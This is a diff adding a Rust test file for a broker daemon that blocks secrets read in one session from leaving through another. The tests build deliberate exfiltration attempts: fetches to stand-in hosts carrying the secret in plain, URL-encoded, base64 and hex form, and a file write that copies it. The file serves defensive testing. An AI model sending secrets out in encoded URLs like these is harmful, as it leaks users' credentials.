@@ -1,0 +1,184 @@
+//! Secrets do not change sessions, on a real brokerd: what one session read from a secret root
+//! cannot be carried out or written down by another, plain or encoded, before or after a
+//! restart; the denial is `leak`, recorded and logged with its runbook pointer.
+
+mod support;
+
+use std::fs;
+
+use bxcore::{CallId, Message, SessionId, ToolRequest, ToolResponse};
+use serde_json::{Value, json};
+use support::*;
+
+const SECRET: &str = "correct horse battery staple 4711";
+
+fn home() -> Home {
+    let h = Home::new("");
+    h.dir("notes");
+    fs::write(h.dir("vault").join("key.txt"), SECRET).unwrap();
+    h.write_config(&format!(
+        "[[workspace.roots]]\npath = {:?}\nclass = \"private\"\nwritable = true\n\n\
+         [[workspace.roots]]\npath = {:?}\nclass = \"secret\"\n",
+        h.home.join("notes").display().to_string(),
+        h.home.join("vault").display().to_string(),
+    ));
+    h
+}
+
+fn call(h: &Home, session: &str, id: u64, tool: &str, args: Value) -> ToolResponse {
+    let r = request(
+        &h.broker_sock(),
+        id,
+        Message::ToolRequest(ToolRequest {
+            session: SessionId::new(session).unwrap(),
+            call: CallId(id),
+            tool: tool.into(),
+            args,
+        }),
+    );
+    match &r.last().unwrap().msg {
+        Message::ToolResponse(t) => t.clone(),
+        other => panic!("{other:?}"),
+    }
+}
+
+fn read_secret(h: &Home, session: &str) {
+    let path = h.home.join("vault/key.txt").display().to_string();
+    match call(h, session, 1, "workspace_read", json!({ "path": path })) {
+        ToolResponse::Result { content, .. } => assert_eq!(content, SECRET),
+        o => panic!("{o:?}"),
+    }
+}
+
+fn fetch(h: &Home, session: &str, id: u64, url: &str) -> ToolResponse {
+    call(h, session, id, "web_fetch", json!({ "url": url }))
+}
+
+fn assert_leak(r: ToolResponse, how: &str) {
+    match r {
+        ToolResponse::Denied { reason } => {
+            assert!(reason.starts_with("leak:"), "{reason}");
+            assert!(reason.contains(how), "{reason}");
+        }
+        o => panic!("expected a leak denial, got {o:?}"),
+    }
+}
+
+#[test]
+fn a_secret_read_in_one_session_cannot_leave_through_another() {
+    let h = home();
+    let b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    let url = format!("https://example.org/?q={}", SECRET.replace(' ', "+"));
+    assert_leak(fetch(&h, "l2", 2, &url), "url-encoded");
+    let denied = records(&h)
+        .into_iter()
+        .find(|r| r["session"] == "l2" && r["event"] == "denied")
+        .unwrap();
+    assert!(
+        denied["detail"]["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("leak:")
+    );
+    let log = b.wait_log("as a leak");
+    assert!(
+        log.contains("see docs/runbook.md#broker-leak-denied"),
+        "{log}"
+    );
+    // l2 stays what it was: the secret never reached it through brokerd.
+    assert!(!h.state_file("l2").exists());
+}
+
+#[test]
+fn a_secret_cannot_be_written_down_by_another_session() {
+    let h = home();
+    let _b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    let out = h.home.join("notes/copy.txt");
+    let r = call(
+        &h,
+        "l3",
+        3,
+        "workspace_write",
+        json!({"path": out.display().to_string(), "content": format!("note: {SECRET}")}),
+    );
+    assert_leak(r, "plain");
+    assert!(!out.exists());
+}
+
+#[test]
+fn a_secret_is_found_in_base64_and_hex() {
+    let h = home();
+    let _b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    let b64 = b64(&format!("x{SECRET}"));
+    assert_leak(
+        fetch(&h, "l2", 2, &format!("https://e.org/{b64}")),
+        "base64",
+    );
+    let hex: String = SECRET.bytes().map(|b| format!("{b:02X}")).collect();
+    assert_leak(
+        fetch(&h, "l3", 3, &format!("https://e.org/?h={hex}")),
+        "hex",
+    );
+}
+
+#[test]
+fn the_fingerprints_survive_a_restart() {
+    let h = home();
+    let mut b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    b.kill();
+    let _b = Brokerd::start(&h);
+    let piece = SECRET[4..24].replace(' ', "%20");
+    assert_leak(
+        fetch(&h, "l2", 2, &format!("https://e.org/?q={piece}")),
+        "url-encoded",
+    );
+}
+
+#[test]
+fn an_unrelated_egress_is_not_a_leak() {
+    let h = home();
+    let _b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    // Allowed by the policy; it fails only because no gateway is configured.
+    match fetch(&h, "l2", 2, "https://example.org/weather?city=Berlin") {
+        ToolResponse::Failed { message } => assert!(message.contains("no gateway"), "{message}"),
+        o => panic!("{o:?}"),
+    }
+}
+
+#[test]
+fn a_damaged_fingerprint_store_stops_brokerd_at_start() {
+    let h = home();
+    let mut b = Brokerd::start(&h);
+    read_secret(&h, "l1");
+    b.kill();
+    let store = h.home.join("broker/fingerprints.bin");
+    let mut bytes = fs::read(&store).unwrap();
+    bytes.truncate(bytes.len() - 3);
+    fs::write(&store, bytes).unwrap();
+    let mut again = Brokerd::spawn(&h);
+    assert_ne!(again.wait_exit(), 0);
+    assert!(
+        again
+            .stderr()
+            .contains("see docs/runbook.md#broker-fingerprints-damaged"),
+        "{}",
+        again.stderr()
+    );
+}
+
+fn b64(s: &str) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in s.as_bytes().chunks(3) {
+        let n = c.iter().fold(0u32, |a, &b| a << 8 | u32::from(b)) << (8 * (3 - c.len()));
+        for i in 0..=c.len() {
+            out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
+        }
+    }
+    out
+}
